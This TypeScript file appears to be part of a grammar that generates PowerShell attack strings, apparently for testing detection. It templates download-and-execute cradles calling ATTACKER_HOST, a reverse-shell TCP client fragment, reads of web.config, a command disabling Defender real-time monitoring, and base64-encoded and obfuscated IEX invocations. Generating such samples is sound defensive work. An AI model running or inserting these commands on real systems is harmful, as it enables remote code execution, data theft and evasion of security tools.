/** What attackers have PowerShell do, and how it is called. */
import { ALPHANUMERIC, bound, characters, maybe, oneOf, type Rule, text, weighted, words } from '../../grammar.ts';
import { ATTACKER_HOST, CALLBACK_HOST, IP_ADDRESS, MARKER, PORT } from '../hosts.ts';
import { SECONDS } from './commands.ts';

const POWERSHELL_CODE: Rule = oneOf(
  text`IEX(New-Object Net.WebClient).DownloadString('http://${ATTACKER_HOST}/${MARKER}.ps1')`,
  text`IEX (iwr http://${ATTACKER_HOST}/${MARKER}.ps1 -UseBasicParsing)`,
  text`iwr ${maybe('-Uri ')}http://${ATTACKER_HOST}/${MARKER}.exe -OutFile ${oneOf('$env:TEMP\\x.exe', 'c:\\temp\\x.exe')}`,
  text`Invoke-WebRequest -Uri http://${ATTACKER_HOST}/${MARKER}`,
  text`(New-Object System.Net.WebClient).DownloadFile('http://${ATTACKER_HOST}/${MARKER}.exe','${MARKER}.exe')`,
  text`Start-Sleep -s ${SECONDS}`,
  text`Start-Sleep ${SECONDS}`,
  text`Get-Content ${words('C:\\Windows\\win.ini C:\\inetpub\\wwwroot\\web.config ..\\web.config')}`,
  text`Start-Process ${words('calc cmd.exe notepad')}`,
  text`$client = New-Object System.Net.Sockets.TCPClient('${IP_ADDRESS}',${PORT});$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0}`,
  text`[System.Net.Dns]::GetHostAddresses('${CALLBACK_HOST}')`,
  text`Invoke-Expression ${words('whoami "whoami" $env:x')}`,
  text`Get-ChildItem ${words('C:\\ -Recurse Env: C:\\Users')}`,
  text`Get-${words('Process Service LocalUser WmiObject')} | ${words('Out-String Select Format-List')}`,
  text`Set-MpPreference -DisableRealtimeMonitoring $true`,
  text`Test-Connection ${CALLBACK_HOST}`,
);

/** PowerShell, called or by itself. */
export const POWERSHELL_COMMAND: Rule = weighted(
  [
    4,
    text`powershell${maybe('.exe')} ${oneOf('-c ', '-Command ', '-nop -w hidden -c ', '-ExecutionPolicy Bypass -c ', '')}${oneOf(POWERSHELL_CODE, text`"${POWERSHELL_CODE}"`)}`,
  ],
  [
    3,
    bound(
      POWERSHELL_CODE,
      (code) =>
        text`powershell${maybe('.exe')} ${words('-enc -e -EncodedCommand -ec')} ${Buffer.from(code, 'utf16le').toString('base64')}`,
    ),
  ],
  [
    1,
    text`powershell -nop -w hidden -noni -enc ${Buffer.from('IEX', 'utf16le').toString('base64').replaceAll('=', '')}${characters(ALPHANUMERIC, 20, 80)}`,
  ],
  [4, POWERSHELL_CODE],
  [1, text`pwsh -c "${POWERSHELL_CODE}"`],
  [1, text`&(${oneOf("'I'+'EX'", '"{1}{0}"-f"EX","I"', '$env:ComSpec[4,15,25]-join""')})${POWERSHELL_CODE}`],
);
